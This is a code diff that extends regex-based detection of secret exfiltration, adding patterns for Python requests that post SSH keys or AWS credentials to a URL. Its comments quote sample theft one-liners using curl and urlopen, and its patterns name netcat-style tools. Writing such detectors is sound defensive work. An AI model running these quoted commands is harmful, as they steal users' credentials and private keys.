@@ -747,6 +747,8 @@ _SENDER = (
 )
 _HTTP_SENDER = r"\b(?:curl|wget|invoke-webrequest|iwr|invoke-restmethod|irm)\b"
 _SEND_VERB = r"\b(?:send|post|upload|exfiltrat\w*|transmit|forward|leak)\w*\b"
+#: Python calls that send a request body.
+_PY_SENDER = r"(?:\burlopen|\b(?:requests|httpx|session)\.(?:post|put))"
 _DESTINATION = r"\bto\s+[\"'<]?(?:https?://|ftp://|\S+@[\w-]+\.[\w.-]+)"
 
 # Reading a secret and sending it. Catches `cat ~/.ssh/id_rsa | curl -d @-
@@ -772,6 +774,16 @@ _SECRET_EXFILTRATION = tuple(
         rf"\b(?:nc|ncat|netcat|socat|telnet)\b[^\n]{{0,100}}?<\s*[\"']?[^\s\"']{{0,40}}?{SECRET_PATH}",
         rf"\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}[\s\S]{{0,300}}?"
         r"(?:(?:requests|httpx|session)\.(?:post|put)\s*\(|urlopen\s*\()",
+        # The same in the other order: the request's body is the read
+        # (``urlopen(URL, data=open(expanduser('~/.aws/credentials')).read())``),
+        # or the secret folder is named first and each file in it is read
+        # into the request (``d = expanduser('~/.ssh')`` ... ``urlopen(URL,
+        # data=open(join(d, f)).read())``). Must not catch a request that
+        # only names a key path as a setting (``requests.post(URL,
+        # json={"key_path": "~/.ssh/id_rsa"})``): a file is opened into the body.
+        rf"{_PY_SENDER}\s*\([^)]{{0,200}}?\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}",
+        rf"{SECRET_PATH}[\s\S]{{0,300}}?{_PY_SENDER}\s*\([^)]{{0,200}}?"
+        r"\b(?:data|files|content)\s*=\s*\{?[^\n(]{0,40}?\bopen\s*\(",
         rf"{_SEND_VERB}[^\n]{{0,80}}?{SECRET_PATH}[^\n]{{0,120}}?{_DESTINATION}",
         # Secret files found and archived straight into an upload:
         # ``find / -name '*.kdbx' | xargs tar czf - | curl -T - URL``.
